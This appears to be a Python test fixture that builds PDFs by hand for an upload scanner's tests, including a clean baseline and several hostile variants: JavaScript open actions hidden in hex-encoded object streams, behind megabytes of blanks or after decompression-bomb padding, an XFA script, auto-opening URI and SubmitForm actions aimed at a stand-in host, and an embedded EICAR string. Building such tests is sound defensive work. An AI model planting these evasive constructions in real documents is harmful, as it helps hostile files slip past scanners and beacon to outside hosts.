"""PDFs built byte by byte for the upload tests: a small writer with a cross-reference stream (PDF 1.5),
object streams under any filter, and the hostile PDFs of issue 17 made with it. No binary fixtures."""
import binascii
import functools
import struct
import zlib

MB = 1024 * 1024
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
CONTENT = b"BT /F1 12 Tf 72 760 Td (Bao cao tu danh gia) Tj ET"


def stream(entries: bytes, data: bytes, flate: bool = False) -> bytes:
    if flate:
        data, entries = zlib.compress(data), entries + b" /Filter /FlateDecode"
    return b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def object_stream(members: dict[int, bytes], *, encoding: str = "flate", padding: int = 0) -> bytes:
    """An object stream holding ``members`` (number → object text); ``padding`` blanks before the first."""
    body, offsets = b" " * padding, []
    for number, text in members.items():
        offsets.append(b"%d %d" % (number, len(body)))
        body += text + b"\n"
    header = b" ".join(offsets) + b"\n"
    data = header + body
    entries = b"/Type /ObjStm /N %d /First %d" % (len(members), len(header))
    if encoding == "hex":
        return stream(entries + b" /Filter /ASCIIHexDecode", binascii.hexlify(data) + b">")
    return stream(entries, data, flate=encoding == "flate")


def pdf_document(objects: dict[int, bytes], packed: dict[int, tuple[int, int]] | None = None) -> bytes:
    """A PDF with ``objects`` (number → body) and a cross-reference stream; ``packed`` lists the objects
    stored in object streams (number → (stream number, index)). Object 1 is the catalog."""
    packed = packed or {}
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = max([*offsets, *packed]) + 1
    offsets[xref] = len(out)
    rows = b""
    for number in range(xref + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in packed:
            rows += struct.pack(">BIH", 2, *packed[number])
        else:
            rows += struct.pack(">BIH", 0, 0, 65535 if number == 0 else 0)
    out += b"%d 0 obj\n" % xref + stream(b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref + 1), rows)
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref]
    return bytes(out)


def page_tree(catalog_extra: bytes = b"", page_extra: bytes = b"") -> dict[int, bytes]:
    """Catalog (1), pages (2), one page (3) with its content (4) and font (5)."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
           b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b" >>",
        4: stream(b"", CONTENT, flate=True),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }


JS_ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def js_in_hex_object_stream() -> bytes:
    objects = page_tree(b"/OpenAction 7 0 R")
    objects[6] = object_stream({7: JS_ACTION}, encoding="hex")
    return pdf_document(objects, {7: (6, 0)})


def js_after_blanks(blanks: int = 8 * MB + 1) -> bytes:
    objects = page_tree(b"/OpenAction 7 0 R")
    objects[6] = object_stream({7: JS_ACTION}, padding=blanks)
    return pdf_document(objects, {7: (6, 0)})


@functools.cache
def js_after_padding(streams: int = 3, each: int = 64 * MB) -> bytes:
    """Padding streams that together inflate past the scanner's budget, then JavaScript in a link."""
    objects = page_tree(page_extra=b"/Annots [20 0 R]")
    zeros = zlib.compress(b"\0" * each, 9)
    for n in range(streams):
        objects[6 + n] = (b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(zeros)) + zeros + b"\nendstream"
    objects[19] = object_stream({20: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + JS_ACTION + b" >>"})
    return pdf_document(objects, {20: (19, 0)})


def open_action_uri() -> bytes:
    return pdf_document(page_tree(b"/OpenAction << /S /URI /URI (http://evil.example/theo-doi) >>"))


def aa_submit_form() -> bytes:
    submit = b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/nhan) >> /Flags 4 >>"
    return pdf_document(page_tree(page_extra=b"/AA << /O " + submit + b" >>"))


def xfa_with_script() -> bytes:
    xfa = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
           b'<script contentType="application/x-javascript">app.alert(1)</script></event></subform>'
           b"</template></xdp:xdp>")
    objects = page_tree(b"/AcroForm << /Fields [] /XFA 6 0 R >>")
    objects[6] = stream(b"", xfa, flate=True)
    return pdf_document(objects)


def import_data() -> bytes:
    return pdf_document(page_tree(b"/OpenAction << /S /ImportData /F (data.fdf) >>"))


def eicar_inside() -> bytes:
    objects = page_tree()
    objects[6] = stream(b"/Type /Metadata /Subtype /XML", EICAR)
    return pdf_document(objects)


def clean() -> bytes:
    """A valid page built the same way: what the hostile ones differ from."""
    return pdf_document(page_tree())
